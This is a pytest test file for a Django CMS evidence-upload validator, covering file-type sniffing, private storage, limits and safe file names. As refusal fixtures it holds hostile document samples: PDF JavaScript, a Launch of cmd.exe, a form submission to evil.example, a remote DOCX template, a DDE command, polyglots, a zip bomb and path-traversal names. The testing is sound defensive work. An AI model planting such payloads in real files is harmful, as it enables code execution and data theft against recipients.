"""Evidence: what is taken, what is refused, where it lies, how it goes."""

from __future__ import annotations

import hashlib
import io

import pytest
from django.core.exceptions import ValidationError
from PIL import Image

from cms.core.intake import limits, store
from cms.core.intake.evidence import EvidenceLimits, add_evidence, evidence_of, hand_over, safe_name
from cms.core.intake.models import Draft, Evidence
from cms.core.intake.sniffing import SOUND, check_evidence
from tests.cms.core.intake import files
from tests.cms.core.intake.conftest import in_parallel

BOUNDS = EvidenceLimits(max_files=3, max_bytes=200_000)
EXTERNAL = (
    b'<Relationships><Relationship Id="r1" Type="http://x/%s" '
    b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


@pytest.fixture(autouse=True)
def own_store(settings, tmp_path):
    """A private store of this test."""
    settings.INTAKE_MAC_KEY = "only for tests"
    settings.INTAKE_KEYS = ["A" * 43 + "="]
    settings.VAR_DIR = tmp_path


def lying() -> list[str]:
    return [path.name for path in store.private_dir().glob("??/*")]


GOOD = {
    "photo.jpg": files.picture(),
    "PHOTO.JPEG": files.picture(),
    "scan.png": files.picture("PNG"),
    "scan.webp": files.picture("WEBP"),
    "letter.pdf": files.pdf(files.packed(b"BT (hello) Tj ET")),
    "letter.docx": files.docx(),
    "linked.docx": files.docx(word___rels__document_dot_xml_dot_rels=EXTERNAL % b"hyperlink"),
}
JS = b"<</S/JavaScript/JS(app.alert(1))>>"
REFUSED = {
    "svg": ("x.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", "not_taken"),
    "html": ("x.html", b"<html><script>alert(1)</script>", "not_taken"),
    "html as picture": ("x.jpg", b"<html><script>alert(1)</script>", "wrong_type"),
    "no ending": ("x", files.picture(), "not_taken"),
    "programme": ("x.exe", b"MZ" + b"\0" * 100, "not_taken"),
    "png as jpg": ("x.jpg", files.picture("PNG"), "wrong_type"),
    "pdf as docx": ("x.docx", files.pdf(), "wrong_type"),
    "zip as docx": ("x.docx", files.zipped(), "wrong_type"),
    "double ending": ("x.jpg.exe", files.picture(), "not_taken"),
    "cut picture": ("x.jpg", files.picture()[:-500], "damaged_image"),
    "pdf script": ("x.pdf", files.pdf(JS), "active"),
    "pdf script, name escaped": ("x.pdf", files.pdf(JS.replace(b"Java", b"#4aav#61")), "active"),
    "pdf script in an object stream": (
        "x.pdf", files.pdf(files.packed(b"5 0 " + JS, b"/Type/ObjStm/N 1/First 4")), "active",
    ),
    "pdf object stream, oddly packed": (
        "x.pdf",
        files.pdf(
            b"<</Type/ObjStm/Filter[/ASCII85Decode/FlateDecode]>>\nstream\nxx\nendstream"
        ),
        "active",
    ),
    "pdf launch": ("x.pdf", files.pdf(b"<</S/Launch/F(cmd.exe)>>"), "active"),
    "pdf with a file": ("x.pdf", files.pdf(b"<</Type/EmbeddedFile>>"), "active"),
    "pdf sends": ("x.pdf", files.pdf(b"<</S/SubmitForm/F(http://evil.example)>>"), "active"),
    "pdf with a password": ("x.pdf", files.pdf(b"<</Encrypt 9 0 R>>"), "encrypted"),
    "pdf bomb": ("x.pdf", files.pdf(*[files.packed(b"\0" * 60_000_000)] * 2), "zip_bomb"),
    "pdf cut": ("x.pdf", files.pdf()[:-6], "wrong_type"),
    "pdf not at the start": ("x.pdf", b"\n" + files.pdf(), "wrong_type"),
    "pdf and html": ("x.pdf", files.pdf(b"(<html><script>x</script>)"), "polyglot"),
    "pdf and zip": ("x.pdf", files.pdf() + files.zipped() + b"%%EOF", "polyglot"),
    "picture and zip": ("x.jpg", files.picture() + files.zipped(), "polyglot"),
    "picture and pdf": ("x.jpg", files.picture(comment=b"%PDF-1.7"), "polyglot"),
    "pdf that hides behind a false end": (
        "x.pdf",
        files.pdf(files.packed(b"endstream " * 9 + b"5 0 " + JS, b"/Type/ObjStm", level=0)),
        "active",
    ),
    "pdf object stream with a predictor": (
        "x.pdf",
        files.pdf(files.packed(b"x", b"/Type/ObjStm/DecodeParms<</Predictor 12>>")),
        "active",
    ),
    "picture of a billion points": ("x.png", files.huge_png(40_000, 40_000), "too_many_pixels"),
    "picture of many points": ("x.png", files.huge_png(9_000, 9_000), "too_many_pixels"),
    "docx with a password": ("x.docx", files.locked(files.docx()), "wrong_type"),
    "macros": ("x.docx", files.docx(word__vbaProject_dot_bin=b"x"), "macros"),
    "macro type": ("x.docx", files.docx(types=b"<Types>vnd.ms-word.macroEnabled</Types>"), None),
    "embedded object": ("x.docx", files.docx(word__embeddings__o_dot_bin=b"x"), "active"),
    "active x": ("x.docx", files.docx(word__activeX__a_dot_xml=b"x"), "active"),
    "remote template": (
        "x.docx",
        files.docx(word___rels__settings_dot_xml_dot_rels=EXTERNAL % b"attachedTemplate"),
        "active",
    ),
    "dde": ("x.docx", files.docx(document=b"<w:instrText>DDEAUTO c:\\cmd</w:instrText>"), "active"),
    "docx with a tail": ("x.docx", files.docx() + b"<html>", None),
    "docx with a head": ("x.docx", b"%PDF-1.7\n" + files.docx(), "wrong_type"),
}  # fmt: skip


@pytest.mark.parametrize("name", GOOD)
def test_taken(name):
    file = files.upload(name, GOOD[name])
    kind = check_evidence(file, BOUNDS.types)
    assert name.lower().rsplit(".")[-1] in kind.endings
    assert file.tell() == 0


@pytest.mark.parametrize("case", REFUSED)
def test_refused(case):
    name, content, code = REFUSED[case]
    with pytest.raises(ValidationError) as caught:
        check_evidence(files.upload(name, content, "image/jpeg"), BOUNDS.types)
    assert code is None or caught.value.code == code
    assert name in caught.value.messages[0]


def test_many_streams_are_looked_through_in_time():
    """Neither the number of streams nor of dictionaries costs more than a look each."""
    hostile = files.pdf(b"<<stream\n\x78\x9c" * 200_000 + b"<<" * 2_000_000)
    assert check_evidence(files.upload("x.pdf", hostile), BOUNDS.types).mime == "application/pdf"


def test_sound_where_it_is_asked_for():
    file = files.upload("voice.wav", files.sound())
    assert check_evidence(file, SOUND).mime == "audio/x-wav"
    with pytest.raises(ValidationError):
        check_evidence(file, BOUNDS.types)


@pytest.mark.django_db
class TestKeeping:
    def test_apart_from_everything_public(self, asked, settings):
        record, content = asked(), GOOD["scan.png"]
        kept = add_evidence(owner=record, file=files.upload("扫描 件.png", content), bounds=BOUNDS)
        path = store.path_of(kept.stored_name)
        assert path.read_bytes() == content
        assert kept.sha256 == hashlib.sha256(content).hexdigest()
        assert (kept.size, kept.mime, kept.name) == (len(content), "image/png", "扫描_件.png")
        assert path.stat().st_mode & 0o777 == 0o600
        assert not path.is_relative_to(settings.MEDIA_ROOT)
        assert "扫描" not in str(path)
        assert list(evidence_of(record)) == [kept]

    def test_the_place_is_taken_out_of_a_picture(self, asked):
        located = files.picture(located=True)
        assert Image.open(io.BytesIO(located)).getexif().get_ifd(files.GPS_IFD) != {}
        kept = add_evidence(owner=asked(), file=files.upload("a.jpg", located), bounds=BOUNDS)
        stored = store.path_of(kept.stored_name).read_bytes()
        assert Image.open(io.BytesIO(stored)).getexif().get_ifd(files.GPS_IFD) == {}
        assert (kept.sha256, kept.size) == (hashlib.sha256(stored).hexdigest(), len(stored))

    @pytest.mark.parametrize(("content", "code"), [(b"", "empty"), (b"x" * 200_001, "too_large")])
    def test_sizes(self, asked, content, code):
        with pytest.raises(ValidationError) as caught:
            add_evidence(owner=asked(), file=files.upload("a.jpg", content), bounds=BOUNDS)
        assert (caught.value.code, lying()) == (code, [])

    def test_not_more_than_allowed(self, asked):
        record = asked()
        for number in range(3):
            file = files.upload(f"{number}.png", GOOD["scan.png"])
            add_evidence(owner=record, file=file, bounds=BOUNDS)
        with pytest.raises(ValidationError) as caught:
            file = files.upload("4.png", GOOD["scan.png"])
            add_evidence(owner=record, file=file, bounds=BOUNDS)
        assert caught.value.code == "too_many"
        assert (Evidence.objects.count(), len(lying())) == (3, 3)

    def test_limited(self, asked, monkeypatch):
        record = asked()
        monkeypatch.setitem(limits.LIMITS, "evidence", (limits.Limit("address", 1, 600),))
        for expected in (None, limits.TooManyError):
            file = files.upload("a.png", GOOD["scan.png"])
            try:
                add_evidence(owner=record, file=file, bounds=BOUNDS, address="192.0.2.1")
                assert expected is None
            except limits.TooManyError:
                assert expected is limits.TooManyError

    def test_from_a_draft_to_its_record(self, asked):
        draft = Draft.objects.create(
            kind="x", token_digest="t", saved_at="2026-01-01T00:00Z", expires_at="2026-02-01T00:00Z"
        )
        file = files.upload("a.png", GOOD["scan.png"])
        kept = add_evidence(owner=draft, file=file, bounds=BOUNDS)
        record = asked()
        hand_over(draft=draft, record=record)
        draft.delete()
        assert list(evidence_of(record)) == [kept]
        assert len(lying()) == 1


@pytest.mark.django_db
def test_the_file_goes_once_the_deletion_is_committed(asked, django_capture_on_commit_callbacks):
    file = files.upload("a.png", GOOD["scan.png"])
    kept = add_evidence(owner=asked(), file=file, bounds=BOUNDS)
    with django_capture_on_commit_callbacks() as callbacks:
        Evidence.objects.all().delete()
    assert lying() == [kept.stored_name]
    for callback in callbacks:
        callback()
    assert lying() == []
    assert store.remove(kept.stored_name) is False


@pytest.mark.django_db(transaction=True)
def test_ten_uploads_at_once_keep_the_limit(asked):
    record = asked()

    def add(number: int):
        file = files.upload(f"{number}.png", GOOD["scan.png"])
        return add_evidence(owner=record, file=file, bounds=BOUNDS)

    results = in_parallel(10, add)
    assert sum(isinstance(result, Evidence) for result in results) == 3
    assert sum(isinstance(result, ValidationError) for result in results) == 7
    assert len(lying()) == 3


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\x\\信.pdf", "信.pdf"),
        ("a\x00b\n.pdf", "ab.pdf"),
        ("x\u202egpj.exe", "xgpj.exe"),
        ("  .  ", "file"),
        ("", "file"),
        ("长" * 300 + ".pdf", "长" * 116 + ".pdf"),
        ("我的 材料（一）.pdf", "我的_材料一.pdf"),
    ],
)
def test_names_for_download(name, safe):
    assert safe_name(name) == safe


@pytest.mark.parametrize("name", ["../x", "a/b", "张", "", "a.b", "a\x00"])
def test_names_that_are_not_ours(name):
    with pytest.raises(ValueError):
        store.path_of(name)


def test_limits_are_told_in_words():
    assert "20 MB" in EvidenceLimits().in_words()
    assert "JPG、PNG、WebP、PDF、DOCX" in EvidenceLimits().in_words()
